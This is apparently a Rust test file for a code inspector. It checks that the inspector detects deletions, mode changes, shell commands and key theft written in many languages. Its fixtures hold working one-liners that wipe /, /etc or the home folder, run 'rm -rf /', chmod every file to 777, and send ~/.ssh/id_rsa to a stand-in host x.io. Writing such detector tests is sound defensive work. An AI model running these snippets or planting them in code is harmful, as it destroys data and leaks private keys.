//! Deletes and changed modes that a walk, a pattern or a less usual language hides; and the home folder.

use super::*;

/// Each removes the path, the whole tree if so marked.
const REMOVES: &[(Language, &str, &str, bool)] = &[
    (Python, "import shutil; shutil.rmtree(os.path.expanduser('~'))", "~", true),
    (Python, "import shutil,os; shutil.rmtree(os.environ['HOME'])", "~", true),
    (Python, "import shutil,os; shutil.rmtree(os.environ.get('HOME'))", "~", true),
    (Python, "import shutil,os; shutil.rmtree(os.getenv('HOME')+'/x')", "~/x", true),
    (Python, "import shutil; from pathlib import Path; shutil.rmtree(Path.home())", "~", true),
    (Python, "import shutil; from pathlib import Path; shutil.rmtree(Path.home() / '.ssh')", "~/.ssh", true),
    (Python, "import os,shutil; shutil.rmtree(os.path.join(os.path.expanduser('~'), 'x'))", "~/x", true),
    (Python, "import os\nfor r,d,f in os.walk('/'):\n  for n in f: os.remove(os.path.join(r,n))", "/", true),
    (
        Python,
        "import os\nfor r, d, f in os.walk('/etc', topdown=False):\n  [os.unlink(r + '/' + n) for n in f]",
        "/etc",
        true,
    ),
    (Python, "import os,glob; [os.remove(p) for p in glob.glob('/etc/*')]", "/etc/*", false),
    (Python, "import os,glob\nfor p in glob.glob('/etc/*'): os.remove(p)", "/etc/*", false),
    (Python, "import os,glob; list(map(os.remove, glob.glob('/etc/*')))", "/etc/*", false),
    (Python, "import pathlib\nfor p in pathlib.Path('/').rglob('*'): p.unlink()", "/", true),
    (Python, "import pathlib; [p.unlink() for p in pathlib.Path('/etc').glob('*')]", "/etc", true),
    (Python, "import os; [os.remove('/etc/'+f) for f in os.listdir('/etc')]", "/etc", true),
    (Python, "import os; [os.remove(e.path) for e in os.scandir('/etc')]", "/etc", true),
    (Python, "import os; os.removedirs('/a/b')", "/a/b", true),
    (Python, "import shutil\ndef f(p):\n  shutil.rmtree(p)\nf('/')", "/", true),
    (Python, "import shutil\nf = lambda p: shutil.rmtree(p)\nf('/')", "/", true),
    (
        Python,
        "import shutil, glob\nfor d in glob.glob('/home/*'): shutil.rmtree(d, ignore_errors=True)",
        "/home/*",
        true,
    ),
    (
        Python,
        "import os\nfor (r,d,f) in os.walk('/'):\n  for n in f: os.remove(os.path.join(r,n))",
        "/",
        true,
    ),
    (Ruby, "require 'pathname'; Pathname('/').children.each { |c| c.rmtree }", "/", true),
    (Php, "array_map(fn($f) => unlink($f), glob('/etc/*'));", "/etc/*", false),
    (
        Php,
        "foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator('/')) as $f) { unlink($f->getRealPath()); }",
        "/",
        true,
    ),
    (Julia, "for (r,d,f) in walkdir(\"/\"); for x in f; rm(joinpath(r,x)); end; end", "/", true),
    (Elixir, "Path.wildcard(\"/etc/*\") |> Enum.each(&File.rm!/1)", "/etc/*", false),
    (Groovy, "new File(System.getProperty('user.home')).deleteDir()", "~", true),
    (Perl, "use File::Find; finddepth(sub { unlink; rmdir }, '/')", "/", true),
    (Perl, "use File::Find; find(sub{unlink}, '/')", "/", true),
    (Perl, "use File::Find; find(sub { unlink $_ }, '/etc')", "/etc", true),
    (
        Perl,
        "use File::Find; find({wanted => sub { unlink $File::Find::name }, no_chdir => 1}, '/')",
        "/",
        true,
    ),
    (Perl, "use File::Find; sub w { unlink } find(\\&w, '/')", "/", true),
    (Perl, "unlink glob '/etc/*'", "/etc/*", false),
    (Perl, "unlink glob('/etc/*')", "/etc/*", false),
    (Perl, "unlink </etc/*>", "/etc/*", false),
    (Perl, "unlink for glob '/etc/*'", "/etc/*", false),
    (Perl, "unlink $_ for glob('/etc/*')", "/etc/*", false),
    (Perl, "foreach (glob '/etc/*') { unlink }", "/etc/*", false),
    (Perl, "use File::Path; rmtree($ENV{HOME})", "~", true),
    (Perl, "use File::Path; rmtree(\"$ENV{HOME}/x\")", "~/x", true),
    (Php, "array_map('unlink', glob('/etc/*'));", "/etc/*", false),
    (Php, "foreach (glob('/etc/*') as $f) unlink($f);", "/etc/*", false),
    (Php, "unlink(getenv('HOME') . '/x');", "~/x", false),
    (Php, "unlink($_SERVER['HOME'] . '/x');", "~/x", false),
    (
        Php,
        "foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator('/')) as $f) { unlink($f); }",
        "/",
        true,
    ),
    (JavaScript, "require('fs').rmSync('/', {recursive: true, force: true})", "/", true),
    (JavaScript, "require('fs').rm('/', {recursive: true}, () => {})", "/", true),
    (JavaScript, "require('fs').rmdirSync('/', {recursive: true})", "/", true),
    (JavaScript, "require('fs').promises.rm('/', {recursive: true})", "/", true),
    (JavaScript, "require('fs/promises').rm('/', {recursive: true})", "/", true),
    (JavaScript, "require('rimraf')('/')", "/", true),
    (JavaScript, "require('rimraf').sync('/')", "/", true),
    (JavaScript, "const {rimraf} = require('rimraf'); rimraf('/')", "/", true),
    (JavaScript, "require('fs').rmSync(require('os').homedir(), {recursive: true})", "~", true),
    (JavaScript, "require('fs').rmSync(process.env.HOME + '/x', {recursive: true})", "~/x", true),
    (JavaScript, "require('fs').rmSync(`${process.env.HOME}`, {recursive: true})", "~", true),
    (
        JavaScript,
        "const fs=require('fs'); fs.readdirSync('/etc').forEach(f => fs.unlinkSync('/etc/'+f))",
        "/etc",
        true,
    ),
    (
        JavaScript,
        "const fs=require('fs'); for (const f of fs.readdirSync('/etc')) fs.unlinkSync('/etc/'+f)",
        "/etc",
        true,
    ),
    (JavaScript, "Deno.remove('/', {recursive: true})", "/", true),
    (JavaScript, "await Deno.remove('/', {recursive: true})", "/", true),
    (JavaScript, "Deno.removeSync('/', {recursive: true})", "/", true),
    (JavaScript, "await Bun.$`rm x`; require('fs').rmSync('/', {recursive: true})", "/", true),
    (JavaScript, "function f(p) { require('fs').rmSync(p, {recursive: true}) } f('/')", "/", true),
    (JavaScript, "const f = p => require('fs').rmSync(p, {recursive: true}); f('/')", "/", true),
    (Ruby, "Dir.glob('/**/*').each{|f| File.delete f}", "/**/*", false),
    (Ruby, "Dir.glob('/**/*').each { |f| File.delete(f) }", "/**/*", false),
    (Ruby, "Dir.glob('/etc/*') { |f| File.delete(f) }", "/etc/*", false),
    (Ruby, "Dir['/etc/*'].each do |f| File.unlink f end", "/etc/*", false),
    (Ruby, "require 'fileutils'; FileUtils.rm_rf(Dir['/*'])", "/*", true),
    (Ruby, "require 'fileutils'; FileUtils.rm_rf Dir.glob('/*')", "/*", true),
    (Ruby, "require 'fileutils'; FileUtils.rm_rf(Dir.home)", "~", true),
    (Ruby, "require 'fileutils'; FileUtils.rm_rf(ENV['HOME'])", "~", true),
    (Ruby, "require 'fileutils'; FileUtils.rm_rf(ENV.fetch('HOME') + '/x')", "~/x", true),
    (Ruby, "require 'fileutils'; FileUtils.rm_rf(\"#{Dir.home}/x\")", "~/x", true),
    (Ruby, "require 'fileutils'; FileUtils.rm_rf(File.expand_path('~'))", "~", true),
    (Ruby, "require 'find'; Find.find('/') { |f| File.delete(f) }", "/", true),
    (Ruby, "Dir.each_child('/etc') { |f| File.delete('/etc/' + f) }", "/etc", true),
    (Ruby, "require 'pathname'; Pathname.new('/').rmtree", "/", true),
    (Ruby, "require 'fileutils'; def f(p)\n FileUtils.rm_rf(p)\nend\nf('/')", "/", true),
    (Lua, "os.remove(os.getenv('HOME')..'/x')", "~/x", false),
    (R, "unlink('/', recursive=TRUE)", "/", true),
    (R, "unlink('/', recursive = T)", "/", true),
    (R, "file.remove(list.files('/etc', full.names=TRUE))", "/etc", true),
    (Groovy, "new File('/').deleteDir()", "/", true),
    (Julia, "rm(\"/\", recursive=true)", "/", true),
    (Julia, "rm(\"/\"; recursive=true, force=true)", "/", true),
    (Julia, "rm(homedir(), recursive=true)", "~", true),
    (Julia, "rm(joinpath(homedir(), \"x\"), recursive=true)", "~/x", true),
    (Julia, "foreach(rm, readdir(\"/etc\", join=true))", "/etc", true),
    (Elixir, "File.rm_rf(\"/\")", "/", true),
    (Elixir, "File.rm_rf!(\"/\")", "/", true),
    (Elixir, "File.rm_rf!(System.user_home!())", "~", true),
    (Elixir, "\"/\" |> File.rm_rf!()", "/", true),
];

/// Each runs `rm -rf /`.
const RUNS: &[(Language, &str)] = &[
    (Python, "import os\ndef f(c): os.system(c)\nf('rm -rf /')"),
    (Python, "import os\ndef f(a, c='x'):\n    os.system(a + ' ' + c)\nf('rm', c='-rf /')"),
    (Python, "import os; (lambda c: os.system(c))('rm -rf /')"),
    (Python, "import subprocess; c='rm -rf /'; subprocess.run(c, shell=True)"),
    (Python, "import os\ndef g(x):\n    return x+' -rf /'\nos.system(g('rm'))"),
    (JavaScript, "const g = x => x + ' -rf /'; require('child_process').execSync(g('rm'))"),
    (Python, "import threading,os; threading.Thread(target=os.system,args=('rm -rf /',)).start()"),
    (Perl, "sub f { system(@_) } f('rm -rf /')"),
    (Perl, "sub f { my $c = shift; system($c) } f('rm -rf /')"),
    (Perl, "sub f { my ($c) = @_; system($c) } f('rm -rf /')"),
    (Perl, "sub f { system($_[0]) } f('rm -rf /')"),
    (Ruby, "def f(c) system(c) end; f('rm -rf /')"),
    (Ruby, "f = ->(c) { system(c) }; f.call('rm -rf /')"),
    (JavaScript, "function f(c){require('child_process').execSync(c)} f('rm -rf /')"),
    (JavaScript, "((c) => require('child_process').execSync(c))('rm -rf /')"),
    (JavaScript, "new Deno.Command('rm',{args:['-rf','/']}).outputSync()"),
    (JavaScript, "await new Deno.Command('rm', {args: ['-rf', '/']}).output()"),
    (JavaScript, "Deno.run({cmd: ['rm', '-rf', '/']})"),
    (JavaScript, "Bun.spawn(['rm','-rf','/'])"),
    (JavaScript, "Bun.spawnSync({cmd: ['rm','-rf','/']})"),
    (JavaScript, "import {$} from 'bun'; await $`rm -rf /`"),
    (JavaScript, "await Bun.$`rm -rf /`"),
    (JavaScript, "await $`rm -rf /`.quiet()"),
    (Php, "function f($c) { system($c); } f('rm -rf /');"),
    (Lua, "function f(c) os.execute(c) end f('rm -rf /')"),
    (Lua, "local f = function(c) os.execute(c) end f('rm -rf /')"),
    (R, "system('rm -rf /')"),
    (R, "f <- function(c) system(c); f('rm -rf /')"),
    (R, "system2('rm', c('-rf', '/'))"),
    (Groovy, "\"rm -rf /\".execute()"),
    (Groovy, "['rm','-rf','/'].execute()"),
    (Julia, "run(`rm -rf /`)"),
    (Julia, "read(`rm -rf /`, String)"),
    (Julia, "run(Cmd([\"rm\", \"-rf\", \"/\"]))"),
    (Julia, "run(`sh -c \"x\"`); run(`rm -rf /`)"),
    (Elixir, "System.cmd(\"rm\", [\"-rf\",\"/\"])"),
    (Elixir, "System.shell(\"rm -rf /\")"),
    (Elixir, ":os.cmd('rm -rf /')"),
    (Elixir, "\"rm\" |> System.cmd([\"-rf\", \"/\"])"),
];

const CHANGES_MODES: &[(Language, &str, &str)] = &[
    (Python, "import os\nfor r,d,f in os.walk('/'):\n  for n in f: os.chmod(os.path.join(r,n), 0o777)", "/"),
    (Python, "import pathlib; [p.chmod(0o777) for p in pathlib.Path('/').rglob('*')]", "/"),
    (Perl, "use File::Find; find(sub { chmod 0777, $_ }, '/')", "/"),
    (Ruby, "require 'find'; Find.find('/') { |f| File.chmod(0777, f) }", "/"),
    (Ruby, "require 'fileutils'; FileUtils.chown_R('x', 'x', '/')", "/"),
];

#[test]
fn removed_paths_are_found() {
    let mut missed = Vec::new();
    for (language, source, path, tree) in REMOVES {
        let facts = inspect(*language, source);
        if facts.pure || !facts.deletes.contains(&((*path).to_owned(), *tree)) {
            missed.push(format!("{language:?}: {source}\n  {:?}", facts.deletes));
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn commands_in_functions_and_other_languages_are_found() {
    let mut missed = Vec::new();
    for (language, source) in RUNS {
        let facts = inspect(*language, source);
        if !has_shell(&facts, "rm -rf /") {
            missed.push(format!("{language:?}: {source}\n  {:?} {:?}", facts.shell, facts.argvs));
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn the_home_folder_stands_in_commands() {
    let facts = inspect(Awk, "BEGIN{system(\"rm -rf \" ENVIRON[\"HOME\"])}");
    assert_eq!(facts.shell, ["rm -rf ~"]);
}

#[test]
fn modes_changed_by_a_walk_are_found() {
    for (language, source, path) in CHANGES_MODES {
        let facts = inspect(*language, source);
        assert!(
            facts.changes_permissions.contains(&((*path).to_owned(), true)),
            "{language:?}: {source}\n{facts:?}"
        );
    }
}

#[test]
fn reading_the_home_folder_is_pure() {
    for (language, source) in [
        (Python, "import os; print(os.environ['HOME'])"),
        (Python, "import os; print(os.path.expanduser('~'))"),
        (Python, "from pathlib import Path; print(Path.home())"),
        (Perl, "print $ENV{HOME}"),
        (Ruby, "puts ENV['HOME']"),
        (Ruby, "puts Dir.home"),
        (JavaScript, "console.log(process.env.HOME)"),
        (JavaScript, "console.log(require('os').homedir())"),
        (Php, "echo getenv('HOME');"),
        (Lua, "print(os.getenv('HOME'))"),
    ] {
        let facts = inspect(language, source);
        assert!(facts.pure, "{language:?}: {source}\n{facts:?}");
        assert_eq!(facts.prints, None, "{source}");
    }
}

/// A key is read, and the network is used.
const SENDS_KEYS: &[(Language, &str)] = &[
    (
        Python,
        "import requests,os; requests.post('http://x.io', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())",
    ),
    (
        Python,
        "import requests; from pathlib import Path; requests.post('http://x.io', data=(Path.home()/'.ssh'/'id_rsa').read_text())",
    ),
    (
        Python,
        "import urllib.request as u,os; u.urlopen('http://x.io', open(os.environ['HOME']+'/.ssh/id_rsa','rb').read())",
    ),
    (
        Ruby,
        "require 'net/http'; Net::HTTP.post(URI('http://x.io'), File.read(File.expand_path('~/.ssh/id_rsa')))",
    ),
    (Ruby, "require 'net/http'; Net::HTTP.post(URI('http://x.io'), File.read(Dir.home + '/.ssh/id_rsa'))"),
    (
        Perl,
        "use LWP::UserAgent; open(F, '<', \"$ENV{HOME}/.ssh/id_rsa\"); LWP::UserAgent->new->post('http://x.io', Content => join('', <F>))",
    ),
    (
        JavaScript,
        "fetch('http://x.io', {method: 'POST', body: require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa')})",
    ),
    (
        JavaScript,
        "fetch('http://x.io', {method: 'POST', body: require('fs').readFileSync(`${process.env.HOME}/.ssh/id_rsa`, 'utf8')})",
    ),
    (
        JavaScript,
        "require('https').request({host:'x.io'}).end(require('fs').readFileSync(require('path').join(require('os').homedir(), '.ssh', 'id_rsa')))",
    ),
    (
        Php,
        "$c = curl_init('http://x.io'); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents(getenv('HOME').'/.ssh/id_rsa')); curl_exec($c);",
    ),
    (
        Php,
        "file_get_contents('http://x.io/?' . base64_encode(file_get_contents(getenv('HOME').'/.ssh/id_rsa')));",
    ),
];

#[test]
fn keys_that_are_sent_are_found() {
    let mut missed = Vec::new();
    for (language, source) in SENDS_KEYS {
        let facts = inspect(*language, source);
        if !facts.network || !facts.reads.iter().any(|path| path == "~/.ssh/id_rsa") {
            missed.push(format!("{language:?}: {source}\n  {} {:?}", facts.network, facts.reads));
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}
